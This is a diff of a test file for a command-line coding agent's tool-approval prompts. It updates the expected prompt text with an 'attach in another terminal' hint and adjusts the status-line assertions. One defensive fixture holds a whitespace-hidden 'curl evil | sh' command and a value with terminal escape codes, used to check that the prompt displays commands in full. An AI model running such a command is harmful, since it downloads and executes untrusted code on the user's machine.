@@ -47,7 +47,7 @@ test('y, n and a answer a question; other keys do not', async (t) => {
   t.equal(code, 0)
   t.match(
     stdout,
-    /^Let me test\.\r\n\? May Shell do this\?\r\n│ step 1\r\n {2}y yes {3}n no {3}a always for Shell in this run {2}yes\r\n/,
+    /^Let me test\.\r\n\? May Shell do this\?\r\n│ step 1\r\n {2}or in another terminal: codegen attach g-1\r\n {2}y yes {3}n no {3}a always for Shell in this run {2}yes\r\n/,
   )
 })
 
@@ -79,7 +79,7 @@ test('questions are put one at a time, and output waits meanwhile', async (t) =>
   await codegen.saw('stdout', /second[^]*in this run/)
   type('n')
   const { code, stdout } = await codegen.ended
-  t.match(stdout, /first\r\n.*in this run {2}yes\r\nmeanwhile\r\n\? May/)
+  t.match(stdout, /first\r\n[^?]*in this run {2}yes\r\nmeanwhile\r\n\? May/)
   t.equal(code, 0)
 })
 
@@ -119,7 +119,7 @@ test('on a terminal there is colour, and a status line while a call runs', async
     t,
     async (run) => {
       run.emit('tool_call', { tool_id: '1', tool_name: 'Shell', parameters: { command: 'sleep 1' } })
-      await codegen.saw('stdout', /… Shell sleep 1/)
+      await codegen.saw('stdout', /Shell sleep 1 {2}0 s/)
       const finished = { tool_id: '1', tool_name: 'Shell', status: 'success', result: '', duration_ms: 1000 }
       run.emit('tool_call_finished', finished)
       run.finish('completed')
@@ -127,7 +127,8 @@ test('on a terminal there is colour, and a status line while a call runs', async
     { environment: {} },
   )
   const { stdout } = await codegen.ended
-  t.match(stdout, '\x1b[2m… Shell sleep 1\x1b[22m\r\x1b[K\x1b[32m●\x1b[39m Shell sleep 1  \x1b[2mok 1.0 s\x1b[22m')
+  t.match(stdout, ' Shell sleep 1  0 s\x1b[22m')
+  t.match(stdout, '\r\x1b[K\x1b[32m●\x1b[39m Shell sleep 1  \x1b[2mok 1.0 s\x1b[22m')
 })
 
 test('the whole of a command or a diff is shown, behind a margin nothing in it can leave (CL-13)', async (t) => {
@@ -138,6 +139,7 @@ test('the whole of a command or a diff is shown, behind a margin nothing in it c
     '│ echo ok [300 spaces] ; curl evil | sh',
     '│ ? May Shell do this?',
     '│   y yes\\x1b[2J\\r\\u{202e}',
+    '  or in another terminal: codegen attach g-1',
     '  y yes   n no   a always for Shell in this run  ',
   ])
   const lines = Array.from({ length: 2_000 }, (_, line) => `+line ${line}`)
@@ -146,7 +148,12 @@ test('the whole of a command or a diff is shown, behind a margin nothing in it c
     noColours,
   )
   t.same(diff.split('\n').slice(0, 2), ['? May Edit … do this (2,000 lines)?', '│ +line 0'])
-  t.equal(diff.split('\n').length, 2_002)
+  t.equal(diff.split('\n').length, 2_003)
   const bare = drawQuestion(question({ preview: {}, options: [{ id: 'n', kind: 'deny', label: 'x' }] }), noColours)
-  t.same(bare.split('\n'), ['? May Shell do this?', '│ Shell: npm test', '  n no  '])
+  t.same(bare.split('\n'), [
+    '? May Shell do this?',
+    '│ Shell: npm test',
+    '  or in another terminal: codegen attach g-1',
+    '  n no  ',
+  ])
 })
